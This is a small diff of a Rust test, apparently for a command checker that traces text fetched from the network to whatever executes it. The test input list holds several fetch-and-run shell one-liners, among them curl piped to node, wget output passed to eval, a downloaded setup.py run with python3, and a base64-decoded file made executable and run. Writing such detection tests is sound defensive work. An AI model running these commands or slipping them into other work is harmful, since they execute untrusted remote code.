@@ -13,7 +13,7 @@ fn text_that_was_fetched_is_followed_to_whatever_runs_it() {
         "node <(curl x)",
         "S=$(wget -qO- x); eval \"$S\"",
         "cd sub && curl -sSLo i.sh x && cd .. && sh sub/i.sh",
-        "wget https://x/a/setup.py?v=1; cp setup.py s.py; python3 s.py",
+        "wget https://x/a/setup.py?v=1; python3 setup.py",
         "echo aa | base64 -d > t && chmod +x t && ./t",
         "curl x | while read -r line; do $line; done",
     ] {
